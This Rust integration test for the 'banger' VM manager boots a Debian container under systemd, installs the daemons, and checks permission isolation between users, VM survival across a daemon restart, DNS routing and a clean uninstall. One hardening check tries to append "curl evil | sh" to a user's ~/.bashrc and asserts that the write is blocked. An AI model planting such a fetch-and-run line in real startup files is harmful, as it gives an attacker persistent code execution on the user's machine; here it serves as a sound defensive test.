//! The production path for real: a Debian 12 container booted with systemd
//! as PID 1 (`systemd-nspawn --boot`), the workspace's built binaries
//! installed with `banger system install --owner alice` and real
//! `systemctl`, then, as alice and with no sudo anywhere: both units active,
//! `banger daemon status` and `banger doctor` succeed, a VM boots through the
//! root helper (QEMU; TCG unless the host's KVM is usable) and answers SSH;
//! mallory reaches neither socket and a non-owner peer is turned away by the
//! helper itself; `systemctl restart bangerd` keeps the running VM (same VMM
//! pid, still `running`, still reachable); `banger system uninstall --purge`
//! leaves no unit, link, binary or directory behind.
//!
//! This is where a hardening directive of nix/units.json that blocks a
//! syscall, path or capability the product needs shows up.
//!
//! Needs root, `systemd-nspawn`, `mmdebstrap`, `nsenter`, the workspace's
//! binaries (`cargo build --workspace --bins`; scripts/test.sh does it before
//! `cargo test`), and for the VM part `BANGER_BOOT_TESTS=1` with a test store
//! in `BANGER_TEST_STORE` (scripts/test-store.sh). The container tree is
//! cached under `~/.cache/banger/nspawn/` (docs/system-install.md).

mod common;
#[path = "nspawn/container.rs"]
mod container;

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use container::{cached_tree, Bind, Container};

/// The built binaries' directory as seen inside the container.
const BUILD: &str = "/srv/banger-build";
/// The test store (images and kernels) as seen inside the container.
const STORE: &str = "/srv/banger-store";
/// Generous bound for one VM boot under TCG in a container on a busy host.
const BOOT_SECS: u32 = 900;

/// The directory holding the workspace's built binaries (`target/debug`):
/// this test runs from `target/debug/deps/`.
fn build_dir() -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    exe.parent().and_then(Path::parent).unwrap().to_owned()
}

fn text(out: &Output) -> String {
    format!(
        "status {}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// The image the VM part boots: `(store, image name, kernel name)`.
fn test_image() -> Option<(PathBuf, String, String)> {
    if std::env::var("BANGER_BOOT_TESTS").as_deref() != Ok("1") {
        eprintln!("nspawn: no VM is booted: set BANGER_BOOT_TESTS=1 and BANGER_TEST_STORE");
        return None;
    }
    let store = PathBuf::from(
        std::env::var_os("BANGER_TEST_STORE")
            .expect("BANGER_BOOT_TESTS=1 needs BANGER_TEST_STORE (scripts/test-store.sh)"),
    );
    let name =
        std::env::var("BANGER_TEST_IMAGE").unwrap_or_else(|_| "debian-bookworm-minimal".to_owned());
    let manifest = store.join("images").join(&name).join("manifest.json");
    let manifest: serde_json::Value = serde_json::from_slice(
        &std::fs::read(&manifest).unwrap_or_else(|e| panic!("{}: {e}", manifest.display())),
    )
    .unwrap();
    let kernel = manifest["kernel_ref"]
        .as_str()
        .expect("the image manifest names its kernel")
        .to_owned();
    Some((store, name, kernel))
}

/// Whether the test can run here; prints why not (or fails when privileged
/// tests are required).
fn runnable(test: &str) -> bool {
    if !common::root_or_skip(test) {
        return false;
    }
    for tool in ["systemd-nspawn", "mmdebstrap", "nsenter"] {
        if !common::tool_or_skip(test, tool) {
            return false;
        }
    }
    let missing: Vec<String> = [
        "banger",
        "bangerd",
        "bangerd-root",
        "bangerd-build",
        "banger-vsock-agent",
    ]
    .iter()
    .map(|b| build_dir().join(b))
    .filter(|p| !p.is_file())
    .map(|p| p.display().to_string())
    .collect();
    if missing.is_empty() {
        return true;
    }
    assert!(
        !common::required(),
        "{test}: not built: {} (run `cargo build --workspace --bins` first)",
        missing.join(", ")
    );
    eprintln!(
        "skipping {test}: not built: {} (cargo build --workspace --bins)",
        missing.join(", ")
    );
    false
}

/// Everything `banger system install` creates, for the uninstall check.
const INSTALLED_PATHS: &[&str] = &[
    "/usr/local/bin/banger",
    "/usr/local/bin/bangerd",
    "/usr/local/bin/bangerd-root",
    "/usr/local/bin/bangerd-build",
    "/usr/local/lib/banger",
    "/etc/banger",
    "/etc/tmpfiles.d/banger.conf",
    "/etc/systemd/system/bangerd.service",
    "/etc/systemd/system/bangerd-root.service",
    "/etc/systemd/system/multi-user.target.wants/bangerd.service",
    "/etc/systemd/system/multi-user.target.wants/bangerd-root.service",
    "/var/lib/banger",
    "/var/cache/banger",
    "/run/banger",
    "/run/banger-root",
];

struct Vm {
    state: String,
    vmm_pid: Option<u32>,
    ip: Option<String>,
}

fn show(c: &Container, name: &str) -> Vm {
    let out = c.as_user("alice", &["banger", "vm", "show", name, "--json"], 60);
    assert!(out.status.success(), "vm show {name}: {}", text(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    Vm {
        state: v["state"].as_str().unwrap_or_default().to_owned(),
        vmm_pid: v["vmm_pid"].as_u64().map(|p| p as u32),
        ip: v["ip"].as_str().map(str::to_owned),
    }
}

#[test]
fn system_install_runs_the_product_under_real_systemd() {
    let test = "system_install_runs_the_product_under_real_systemd";
    if !runnable(test) {
        return;
    }
    let started = Instant::now();
    let image = test_image();
    let tree = cached_tree();
    eprintln!("nspawn: tree ready after {:.0?}", started.elapsed());

    let mut binds = vec![Bind {
        host: build_dir(),
        inside: BUILD.into(),
        read_only: true,
    }];
    if let Some((store, _, _)) = &image {
        binds.push(Bind {
            host: store.clone(),
            inside: STORE.into(),
            read_only: true,
        });
    }
    let name = format!("banger-e2e-{}", std::process::id());
    let c = Container::boot(&name, &tree, &binds, Duration::from_secs(300));
    eprintln!("nspawn: container running after {:.0?}", started.elapsed());
    let ok = |out: Output, what: &str| -> Output {
        assert!(out.status.success(), "{what}: {}", text(&out));
        out
    };

    // alice and bob share the primary group `users`, as every normal user
    // on NixOS does; mallory has a group of her own.
    for (user, group) in [("alice", "users"), ("bob", "users"), ("mallory", "")] {
        let mut args = vec!["useradd", "--create-home", "--shell", "/bin/bash"];
        if !group.is_empty() {
            args.extend(["-g", group]);
        }
        args.push(user);
        ok(c.exec(&args, 30), "useradd");
    }
    // A fresh account: nothing under ~/.config or ~/.local yet, which
    // bangerd (whose home is read-only) could not create itself.
    for dir in ["/home/alice/.config", "/home/alice/.local"] {
        assert!(
            !c.exec(&["test", "-e", dir], 10).status.success(),
            "{dir} exists before the install"
        );
    }
    // The system config is the admin's; install never writes it.
    std::fs::create_dir_all(c.root().join("etc/banger")).unwrap();
    let image_name = image.as_ref().map_or("debian-bookworm-minimal", |i| &i.1);
    std::fs::write(
        c.root().join("etc/banger/config.toml"),
        format!(
            "default_image_name = \"{image_name}\"\nlog_level = \"debug\"\n\n[vm_defaults]\nvcpu = 2\nmemory_mib = 768\ndisk_size = \"1G\"\n"
        ),
    )
    .unwrap();

    // The production install, with real systemctl.
    let install = c.exec(
        &[
            &format!("{BUILD}/banger"),
            "system",
            "install",
            "--owner",
            "alice",
            "--from",
            BUILD,
        ],
        300,
    );
    assert!(
        install.status.success(),
        "system install: {}\nbangerd-root:\n{}\nbangerd:\n{}",
        text(&install),
        c.journal("bangerd-root.service"),
        c.journal("bangerd.service")
    );
    eprintln!("nspawn: installed after {:.0?}", started.elapsed());

    // The owner's daily use: as alice, no sudo (root only for systemctl
    // restart and uninstall, as an admin would).
    let alice = |args: &[&str], secs: u32| c.as_user("alice", args, secs);
    let journals = || {
        format!(
            "bangerd-root:\n{}\nbangerd:\n{}",
            c.journal("bangerd-root.service"),
            c.journal("bangerd.service")
        )
    };
    let active = alice(
        &[
            "systemctl",
            "is-active",
            "bangerd-root.service",
            "bangerd.service",
        ],
        30,
    );
    assert_eq!(
        stdout(&active),
        "active\nactive",
        "both units active: {}\n{}",
        text(&active),
        journals()
    );
    let status = alice(&["banger", "daemon", "status"], 60);
    assert!(
        status.status.success(),
        "daemon status: {}\n{}",
        text(&status),
        journals()
    );
    eprintln!("nspawn: daemon status:\n{}", stdout(&status));
    let doctor = alice(&["banger", "doctor"], 120);
    assert!(
        doctor.status.success(),
        "doctor: {}\n{}",
        text(&doctor),
        journals()
    );
    eprintln!("nspawn: doctor:\n{}", stdout(&doctor));
    let sys = alice(&["banger", "system", "status"], 60);
    assert!(sys.status.success(), "system status: {}", text(&sys));

    // The install made banger's home directories as alice, private.
    let st = c.exec(
        &[
            "stat",
            "-c",
            "%U %a %F",
            "/home/alice/.config/banger",
            "/home/alice/.local/state/banger",
        ],
        10,
    );
    assert_eq!(
        stdout(&st),
        "alice 700 directory\nalice 700 directory",
        "home dirs: {}",
        text(&st)
    );
    bangerd_writes_only_its_home_dirs(&c);
    only_the_owner_drives_the_daemon(&c);

    // mallory: the root helper's socket and the daemon's are out of reach.
    for socket in [
        "/run/banger-root/bangerd-root.sock",
        "/run/banger/bangerd.sock",
    ] {
        let out = c.as_user(
            "mallory",
            &[
                "socat",
                "-u",
                "OPEN:/dev/null",
                &format!("UNIX-CONNECT:{socket}"),
            ],
            30,
        );
        assert!(
            !out.status.success()
                && String::from_utf8_lossy(&out.stderr).contains("Permission denied"),
            "mallory connecting to {socket}: {}",
            text(&out)
        );
    }
    let out = c.as_user("mallory", &["banger", "daemon", "status"], 60);
    assert!(
        !out.status.success(),
        "mallory's daemon status: {}",
        text(&out)
    );
    // A peer past the file permissions (root here) is still not the owner:
    // the helper checks the peer's uid on connect and answers with the
    // refusal before reading any request.
    let out = c.exec(
        &[
            "socat",
            "-u",
            "UNIX-CONNECT:/run/banger-root/bangerd-root.sock",
            "STDOUT",
        ],
        30,
    );
    assert!(
        stdout(&out).contains("is not the owner uid"),
        "a non-owner peer's ping: {}",
        text(&out)
    );

    if let Some((_, image_name, kernel)) = &image {
        // As `banger image pull` would leave them: owned by alice in the
        // system state dir.
        for (kind, name) in [("images", image_name), ("kernels", kernel)] {
            ok(
                alice(&["mkdir", "-p", &format!("/var/lib/banger/{kind}")], 30),
                "mkdir",
            );
            ok(
                alice(
                    &[
                        "cp",
                        "-r",
                        "--sparse=always",
                        &format!("{STORE}/{kind}/{name}"),
                        &format!("/var/lib/banger/{kind}/{name}"),
                    ],
                    600,
                ),
                "copy the test image",
            );
        }
        boot_restart_delete(&c, &started, &journals);
    }

    // The host network is there again (the owner's `banger network setup`),
    // so the uninstall must remove it.
    let setup = c.as_user("alice", &["/usr/local/bin/banger", "network", "setup"], 120);
    assert!(setup.status.success(), "network setup: {}", text(&setup));
    assert!(c.exec(&["ip", "link", "show", BRIDGE], 30).status.success());

    // Uninstall with --purge: nothing of the install is left.
    let uninstall = c.exec(
        &["/usr/local/bin/banger", "system", "uninstall", "--purge"],
        300,
    );
    assert!(
        uninstall.status.success(),
        "uninstall: {}",
        text(&uninstall)
    );
    let left: Vec<&str> = INSTALLED_PATHS
        .iter()
        .copied()
        .filter(|p| {
            c.exec(&["test", "-e", p], 10).status.success()
                || c.exec(&["test", "-L", p], 10).status.success()
        })
        .collect();
    assert!(left.is_empty(), "left after uninstall --purge: {left:?}");
    // Nor anything of banger's in the host network.
    let link = c.exec(&["ip", "link", "show", BRIDGE], 30);
    assert!(
        !link.status.success(),
        "{BRIDGE} after uninstall: {}\nuninstall: {}",
        text(&link),
        text(&uninstall)
    );
    let table = c.exec(&["nft", "list", "table", "inet", "banger"], 30);
    assert!(
        !table.status.success(),
        "nft table inet banger after uninstall: {}",
        text(&table)
    );
    let units = c.exec(
        &["systemctl", "list-unit-files", "--no-legend", "bangerd*"],
        30,
    );
    assert_eq!(stdout(&units), "", "unit files left: {}", text(&units));
    // A unit whose file is gone stays loaded as `not-found` until systemd's
    // garbage collection gets to it; it must get to it unless something
    // still references the unit.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let loaded = c.exec(
            &[
                "systemctl",
                "list-units",
                "--all",
                "--no-legend",
                "bangerd*",
            ],
            30,
        );
        if stdout(&loaded).is_empty() {
            break;
        }
        if Instant::now() >= deadline {
            let refs = c.exec(
                &[
                    "systemctl",
                    "show",
                    "-p",
                    "Id,LoadState,ActiveState,WantedBy,RequiredBy,BoundBy,TriggeredBy,After,Before,Job",
                    "bangerd.service",
                    "bangerd-root.service",
                ],
                30,
            );
            let ps = c.exec(&["ps", "-eo", "pid,ppid,user,cgroup,args"], 30);
            panic!(
                "units still loaded 60 s after uninstall: {}\n{}\nuninstall: {}\nprocesses:\n{}\n{}",
                text(&loaded),
                stdout(&refs),
                text(&uninstall),
                stdout(&ps),
                journals()
            );
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    let procs = c.exec(&["pgrep", "-l", "bangerd|qemu"], 30);
    assert_eq!(stdout(&procs), "", "processes left: {}", text(&procs));
    eprintln!("nspawn: whole test took {:.0?}", started.elapsed());
}

/// In bangerd's own mount namespace (where its VMMs run too), alice's home
/// is read-only except banger's directories: root there (past every file
/// mode) gets EROFS for ~/.bashrc, ~/.ssh and ~/.config/systemd, and can
/// write the state and config directories.
fn bangerd_writes_only_its_home_dirs(c: &Container) {
    let pid = stdout(&c.exec(
        &[
            "systemctl",
            "show",
            "-p",
            "MainPID",
            "--value",
            "bangerd.service",
        ],
        10,
    ));
    assert!(
        pid.parse::<u32>().is_ok_and(|p| p > 0),
        "bangerd pid {pid:?}"
    );
    let in_ns = |script: &str| c.exec(&["nsenter", "-t", &pid, "-m", "--", "sh", "-c", script], 30);
    for script in [
        "echo 'curl evil | sh' >> /home/alice/.bashrc",
        "mkdir /home/alice/.ssh",
        "mkdir -p /home/alice/.config/systemd/user",
        "touch /home/alice/.config/banger-not-ours",
    ] {
        let out = in_ns(script);
        assert!(
            !out.status.success()
                && String::from_utf8_lossy(&out.stderr).contains("Read-only file system"),
            "{script} in bangerd's mount namespace: {}",
            text(&out)
        );
    }
    for dir in [
        "/home/alice/.local/state/banger",
        "/home/alice/.config/banger",
    ] {
        let out = in_ns(&format!("touch {dir}/.probe && rm {dir}/.probe"));
        assert!(out.status.success(), "write into {dir}: {}", text(&out));
    }
    let bashrc = c.exec(&["grep", "-c", "curl evil", "/home/alice/.bashrc"], 10);
    assert_eq!(stdout(&bashrc), "0", "~/.bashrc changed: {}", text(&bashrc));
}

/// bob shares alice's primary group `users`: the socket (0600, no
/// socket_group) keeps him out, and when he gets past its mode
/// (CAP_DAC_OVERRIDE), bangerd's peer check refuses him by name, which the
/// CLI prints as such.
fn only_the_owner_drives_the_daemon(c: &Container) {
    let out = c.as_user("bob", &["banger", "vm", "list"], 60);
    assert!(
        !out.status.success() && text(&out).contains("permission denied on the bangerd socket"),
        "bob's vm list: {}",
        text(&out)
    );
    let out = c.exec(
        &[
            "env",
            "HOME=/home/bob",
            "setpriv",
            "--reuid=bob",
            "--regid=users",
            "--init-groups",
            "--inh-caps=+dac_override",
            "--ambient-caps=+dac_override",
            "banger",
            "vm",
            "list",
        ],
        60,
    );
    let msg = text(&out);
    assert!(
        !out.status.success()
            && msg.contains("bangerd on /run/banger/bangerd.sock refused this user: uid ")
            && msg.contains("(bob) may not use this bangerd: only its owner alice (uid ")
            && msg.contains("and root may connect; an admin can admit a group with socket_group in /etc/banger/install.toml"),
        "bob past the socket mode: {msg}"
    );
    let list = c.as_user("alice", &["banger", "vm", "list"], 60);
    assert!(list.status.success(), "alice's vm list: {}", text(&list));
}

/// A VM runs a command through the root helper; another survives
/// `systemctl restart bangerd` and is deleted.
fn boot_restart_delete(c: &Container, started: &Instant, journals: &dyn Fn() -> String) {
    let alice = |args: &[&str], secs: u32| c.as_user("alice", args, secs);
    // The whole product path once: create, boot, SSH, run, delete.
    let run = alice(&["banger", "vm", "run", "--rm", "--", "true"], BOOT_SECS);
    assert!(
        run.status.success(),
        "vm run --rm -- true: {}\n{}",
        text(&run),
        journals()
    );
    let list = alice(&["banger", "vm", "list", "--json"], 60);
    let list: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    assert_eq!(list["vms"], serde_json::json!([]), "--rm left a VM");
    eprintln!(
        "nspawn: vm run --rm -- true exited 0 after {:.0?}",
        started.elapsed()
    );

    // A VM that stays up, for the restart.
    let create = alice(&["banger", "vm", "create", "--name", "t1"], BOOT_SECS);
    assert!(
        create.status.success(),
        "vm create: {}\n{}",
        text(&create),
        journals()
    );
    // bangerd wrote the SSH key and the ssh_config into banger's home
    // directories, the only ones it may write there.
    for f in [
        "/home/alice/.local/state/banger/ssh/id_ed25519",
        "/home/alice/.config/banger/ssh_config",
    ] {
        assert!(
            c.exec(&["test", "-s", f], 10).status.success(),
            "{f} missing after vm create\n{}",
            journals()
        );
    }
    let ssh = alice(&["banger", "vm", "ssh", "t1", "--", "true"], 300);
    assert!(
        ssh.status.success(),
        "vm ssh: {}\n{}",
        text(&ssh),
        journals()
    );
    let before = show(c, "t1");
    assert_eq!(before.state, "running");
    let vmm = before.vmm_pid.expect("a running VM has a VMM pid");
    eprintln!(
        "nspawn: VM booted and answered SSH after {:.0?}",
        started.elapsed()
    );
    // The daemon wired resolved when its first boot made the bridge.
    let ip = before.ip.clone().expect("a running VM has an address");
    resolved_routes_vm(c, "t1", &ip, journals);
    let helper_log = c.exec(
        &[
            "journalctl",
            "--no-pager",
            "-o",
            "cat",
            "-u",
            "bangerd-root.service",
        ],
        30,
    );
    assert!(
        stdout(&helper_log).contains("systemd-resolved routes .vm to the bridge"),
        "the helper did not log its resolvectl calls: {}",
        text(&helper_log)
    );

    // KillMode=process: the VMM outlives the daemon and is adopted again.
    let out = c.exec(&["systemctl", "restart", "bangerd.service"], 120);
    assert!(
        out.status.success(),
        "restart bangerd: {}\n{}",
        text(&out),
        journals()
    );
    let status = alice(&["banger", "daemon", "status"], 60);
    assert!(
        status.status.success(),
        "daemon status after restart: {}",
        text(&status)
    );
    let after = show(c, "t1");
    assert_eq!(
        (after.state.as_str(), after.vmm_pid),
        ("running", Some(vmm)),
        "the VM after the daemon restart\n{}",
        journals()
    );
    assert!(
        c.exec(&["test", "-d", &format!("/proc/{vmm}")], 10)
            .status
            .success(),
        "VMM pid {vmm} is gone"
    );
    let ssh = alice(&["banger", "vm", "ssh", "t1", "--", "true"], 300);
    assert!(ssh.status.success(), "vm ssh after restart: {}", text(&ssh));
    // The restarted daemon wired resolved again (same link, same settings).
    assert_eq!(after.ip.as_deref(), Some(ip.as_str()));
    resolved_routes_vm(c, "t1", &ip, journals);
    // resolved keeps runtime link settings across its own restart
    // (/run/systemd/resolve/netif/).
    let out = c.exec(&["systemctl", "restart", "systemd-resolved.service"], 120);
    assert!(out.status.success(), "restart resolved: {}", text(&out));
    resolved_routes_vm(c, "t1", &ip, journals);

    let del = alice(&["banger", "vm", "delete", "--force", "t1"], 300);
    assert!(del.status.success(), "vm delete: {}", text(&del));
    assert!(
        !c.exec(&["test", "-d", &format!("/proc/{vmm}")], 10)
            .status
            .success(),
        "VMM pid {vmm} outlived vm delete"
    );
    // The deleted VM's name no longer resolves on the host. resolved answers
    // either with the zone's NXDOMAIN ("not found") or, once the bridge has
    // lost its carrier with its last port, with "No appropriate name
    // servers": it keeps no DNS scope on a link without carrier
    // (docs/dns-routing.md).
    let gone = c.exec(&["resolvectl", "query", "--cache=no", "t1.vm"], 60);
    assert!(
        !gone.status.success() && !stdout(&gone).contains(&ip),
        "t1.vm after vm delete: {}",
        text(&gone)
    );
    eprintln!(
        "nspawn: after vm delete, resolvectl query t1.vm: {}\n{}",
        String::from_utf8_lossy(&gone.stderr).trim(),
        stdout(&c.exec(&["resolvectl", "status", BRIDGE], 30))
    );
    network_teardown_forgets_the_link(c, journals);
}

/// The bridge the default config makes.
const BRIDGE: &str = "banger0";

/// systemd-resolved (running in the container) has the bridge address as
/// `BRIDGE`'s DNS server and `~vm` as its routing domain, and real clients
/// on the host resolve `NAME.vm` to `ip` through it: `resolvectl query`
/// (resolved's D-Bus API) and `getent hosts` (glibc through nss-resolve).
fn resolved_routes_vm(c: &Container, name: &str, ip: &str, journals: &dyn Fn() -> String) {
    let addr = c.exec(&["ip", "-4", "-o", "addr", "show", "dev", BRIDGE], 30);
    let bridge_ip = stdout(&addr)
        .split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .and_then(|a| a.split('/').next())
        .unwrap_or_else(|| panic!("{BRIDGE} has an IPv4 address: {}", text(&addr)))
        .to_owned();
    // The daemon wires resolved right after it binds port 53, which a
    // restarted daemon does after it answers `daemon status`.
    let deadline = Instant::now() + Duration::from_secs(60);
    let (dns, domain) = loop {
        let dns = c.exec(&["resolvectl", "dns", BRIDGE], 30);
        let domain = c.exec(&["resolvectl", "domain", BRIDGE], 30);
        if stdout(&dns).split_whitespace().any(|w| w == bridge_ip)
            && stdout(&domain).split_whitespace().any(|w| w == "~vm")
        {
            break (dns, domain);
        }
        if Instant::now() >= deadline {
            let status = c.exec(&["resolvectl", "status"], 30);
            panic!(
                "resolved does not route .vm to {bridge_ip} via {BRIDGE}:\ndns: {}\ndomain: {}\nstatus: {}\n{}",
                text(&dns),
                text(&domain),
                text(&status),
                journals()
            );
        }
        std::thread::sleep(Duration::from_secs(1));
    };
    eprintln!("nspawn: resolved: {} / {}", stdout(&dns), stdout(&domain));
    let route = c.exec(&["resolvectl", "default-route", BRIDGE], 30);
    assert!(
        stdout(&route).ends_with("no"),
        "{BRIDGE} must not be resolved's default route: {}",
        text(&route)
    );
    let fqdn = format!("{name}.vm");
    let query = c.exec(&["resolvectl", "query", "--cache=no", &fqdn], 60);
    assert!(
        query.status.success() && stdout(&query).contains(ip),
        "resolvectl query {fqdn} (want {ip}): {}\nstatus: {}\n{}",
        text(&query),
        stdout(&c.exec(&["resolvectl", "status"], 30)),
        journals()
    );
    eprintln!("nspawn: {}", stdout(&query));
    // As alice: any program on the host, through glibc and nss-resolve.
    let getent = c.as_user("alice", &["getent", "ahostsv4", &fqdn], 60);
    assert_eq!(
        stdout(&getent).split_whitespace().next(),
        Some(ip),
        "getent ahostsv4 {fqdn}: {}",
        text(&getent)
    );
    // Only `.vm` goes to the bridge: another name is not sent there.
    let other = c.exec(&["resolvectl", "query", "--cache=no", "example.com"], 60);
    assert!(
        !stdout(&other).contains(&bridge_ip) && !stdout(&other).contains(BRIDGE),
        "example.com was routed to {BRIDGE}: {}",
        text(&other)
    );
}

/// `banger network teardown` deletes the bridge, and with the link resolved
/// forgets its `.vm` routing: nothing to revert.
fn network_teardown_forgets_the_link(c: &Container, journals: &dyn Fn() -> String) {
    let teardown = c.as_user(
        "alice",
        &["/usr/local/bin/banger", "network", "teardown"],
        120,
    );
    assert!(
        teardown.status.success(),
        "network teardown: {}\n{}",
        text(&teardown),
        journals()
    );
    eprintln!("nspawn: network teardown: {}", stdout(&teardown));
    let link = c.exec(&["ip", "link", "show", BRIDGE], 30);
    assert!(
        !link.status.success(),
        "{BRIDGE} after teardown: {}",
        text(&link)
    );
    let status = c.exec(&["resolvectl", "status"], 30);
    assert!(
        status.status.success() && !stdout(&status).contains(BRIDGE),
        "resolved still knows {BRIDGE}: {}",
        text(&status)
    );
    let dns = c.exec(&["resolvectl", "dns", BRIDGE], 30);
    assert!(
        !dns.status.success(),
        "resolvectl dns {BRIDGE} after teardown: {}",
        text(&dns)
    );
    let query = c.exec(&["resolvectl", "query", "--cache=no", "t1.vm"], 60);
    assert!(
        !query.status.success(),
        "t1.vm still resolves after teardown: {}",
        text(&query)
    );
    eprintln!(
        "nspawn: after teardown, resolvectl query t1.vm: {}",
        String::from_utf8_lossy(&query.stderr).trim()
    );
}
